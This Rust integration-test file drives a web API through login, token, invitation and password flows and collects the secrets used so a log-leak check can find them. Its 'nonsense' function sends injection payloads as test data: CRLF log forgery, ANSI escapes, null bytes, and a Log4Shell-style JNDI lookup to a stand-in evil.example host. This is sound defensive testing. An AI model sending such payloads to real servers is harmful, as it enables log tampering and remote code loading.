//! The main journey, over a real socket to the real program: the set-up, log-ins, a token, calls
//! that are allowed and refused, and nonsense. Returns every secret that was used on the way.

use super::{home::Home, serving::Serving};
use crate::{http::wire::Wire, support::code_in};
use countermark_testkit::PASSWORD;
use serde_json::{Value, json};

/// Somebody else's password on the way.
const SECOND: &str = "nine calm herons wade far";

const THIRD: &str = "two loud geese land early";
const WRONG: &str = "geheimes falsches wort";
const SEARCHED: &str = "geheime-suche";

/// Whatever of these is found in the log is a leak.
pub(crate) struct Secrets(pub(crate) Vec<String>);

fn text(value: &Value) -> String {
    value.as_str().expect("a text").to_owned()
}

fn authorization(scheme: &str, token: &str) -> String {
    format!("Authorization: {scheme} {token}\r\n")
}

/// Goes the whole way.
pub(crate) async fn walk(server: &Serving, home: &Home) -> Secrets {
    let mut secrets = Secrets(vec![
        PASSWORD.into(),
        SECOND.into(),
        THIRD.into(),
        WRONG.into(),
        SEARCHED.into(),
    ]);
    let setup_code = set_up(server, &mut secrets).await;
    let log_in = json!({"email": "a@kallista.example", "password": PASSWORD});
    let (_, body) = server
        .expect(200, "POST", "/api/v2/auth/jwt/", "", &log_in)
        .await;
    let jwt = text(&body["token"]);
    let person = authorization("JWT", &jwt);
    let uat = make_token(server, &person, &mut secrets).await;
    let link_code = invite(server, home, &person, &mut secrets).await;
    mistakes(
        server,
        &person,
        &[("uats", &uat), ("users", &jwt), ("brands", &link_code)],
    )
    .await;
    nonsense(server).await;
    let body = json!({"token": jwt});
    let (_, renewed) = server
        .expect(200, "POST", "/api/v2/auth/jwt/refresh/", "", &body)
        .await;
    secrets.jwt(&text(&renewed["token"]));
    secrets.jwt(&jwt);
    let change = json!({"current_password": PASSWORD, "new_password": THIRD});
    server
        .expect(204, "PATCH", "/api/v2/me/password/", &person, &change)
        .await;
    let token = authorization("UAT", &uat);
    server
        .expect(204, "DELETE", "/api/v2/uats/self/", &token, &json!({}))
        .await;
    server
        .expect(401, "GET", "/api/v2/me/", &token, &json!({}))
        .await;
    server
        .expect(
            204,
            "POST",
            "/api/v2/auth/jwt/logout-all/",
            &person,
            &json!({}),
        )
        .await;
    // The last one: it may stand in the link, on standard output.
    secrets.0.push(setup_code);
    secrets
}

impl Secrets {
    /// The claims and the signature; the head of all JWTs is the same and no secret.
    fn jwt(&mut self, text: &str) {
        self.0.extend(text.split('.').skip(1).map(str::to_owned));
    }
}

async fn set_up(server: &Serving, secrets: &mut Secrets) -> String {
    let code = server.setup_code().await.expect("a link");
    let body = json!({"code": code, "company": "Kallista", "email": "a@kallista.example", "password": PASSWORD});
    let (answer, _) = server
        .expect(201, "POST", "/api/v2/setup/", "", &body)
        .await;
    let mut lines = answer.head.lines();
    let line = lines
        .find_map(|line| line.strip_prefix("set-cookie: "))
        .expect("a cookie");
    let cookie = line.split(';').next().expect("a pair");
    secrets
        .0
        .push(cookie.split_once('.').expect("id and secret").1.to_owned());
    let portal = format!("Cookie: {cookie}\r\nSec-Fetch-Site: same-origin\r\n");
    server
        .expect(200, "GET", "/api/v2/me/", &portal, &json!({}))
        .await;
    code
}

async fn make_token(server: &Serving, person: &str, secrets: &mut Secrets) -> String {
    let (_, list) = server
        .expect(200, "GET", "/api/v2/permissions/", person, &json!({}))
        .await;
    let new =
        json!({"name": "x", "valid_until": list["policy"]["today"], "permissions": ["brand_view"]});
    let (_, uat) = server
        .expect(201, "POST", "/api/v2/uats/", person, &new)
        .await;
    let uat = text(&uat["token"]);
    // The end of a token is what makes it one; its beginning is a public id.
    secrets.0.push(uat[31..].to_owned());
    let token = authorization("UAT", &uat);
    let search = format!("/api/v2/brands/?search={SEARCHED}");
    server.expect(200, "GET", &search, &token, &json!({})).await;
    server
        .expect(
            403,
            "POST",
            "/api/v2/brands/",
            &token,
            &json!({"name": "A"}),
        )
        .await;
    server
        .expect(403, "GET", "/api/v2/users/", &token, &json!({}))
        .await;
    uat
}

async fn invite(server: &Serving, home: &Home, person: &str, secrets: &mut Secrets) -> String {
    let body = json!({"email": "b@kallista.example", "role": "scm_user"});
    server
        .expect(201, "POST", "/api/v2/users/", person, &body)
        .await;
    let code = code_in(&home.mail("invitation").await);
    // The mail that proves the admin's own address, from the set-up.
    secrets.0.push(code_in(&home.mail("verify").await));
    server
        .expect(
            200,
            "POST",
            "/api/v2/invitations/look/",
            "",
            &json!({"code": code}),
        )
        .await;
    let body = json!({"code": code, "password": SECOND});
    server
        .expect(201, "POST", "/api/v2/invitations/accept/", "", &body)
        .await;
    secrets.0.push(code.clone());
    code
}

/// Wrong passwords, damaged credentials, and whole ones in the address, where they should never be.
async fn mistakes(server: &Serving, person: &str, credentials: &[(&str, &str)]) {
    let wrong = json!({"email": "a@kallista.example", "password": WRONG});
    server
        .expect(400, "POST", "/api/v2/auth/jwt/", "", &wrong)
        .await;
    for (name, secret) in credentials {
        for scheme in ["UAT", "JWT"] {
            let damaged = authorization(scheme, &format!("{secret}x"));
            server
                .expect(401, "GET", "/api/v2/me/", &damaged, &json!({}))
                .await;
        }
        let path = format!("/api/v2/{name}/{secret}/");
        server.expect(404, "GET", &path, person, &json!({})).await;
        let path = format!("/api/v2/me/?token={secret}");
        server.expect(401, "GET", &path, "", &json!({})).await;
    }
}

/// What an attacker would like to see in a log: new lines, colours, JSON of their own.
async fn nonsense(server: &Serving) {
    for path in [
        "/%0d%0a%7B%22level%22:%22INFO%22%7D",
        "/a\u{1b}[31mred",
        "/\",\"status\":\"200",
        "/%1b%5b31m",
        "/\u{202e}gnp.exe",
        "/%00",
        "/\\u0000",
        "//evil.example/",
        "/${jndi:ldap://evil.example/a}",
    ] {
        let mut wire = Wire::to(server.address).await;
        wire.send(format!(
            "GET {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\nUser-Agent: \u{1b}[31m\r\n\r\n"
        ))
        .await;
        wire.rest().await;
    }
    for junk in [
        "\r\n\r\n",
        "GET",
        "{\"level\":\"INFO\"}\n",
        "\u{16}\u{3}\u{1}\0\0",
        "A B C D\r\n\r\n",
    ] {
        let mut wire = Wire::to(server.address).await;
        wire.send(junk).await;
        wire.finish().await;
        wire.rest().await;
    }
}
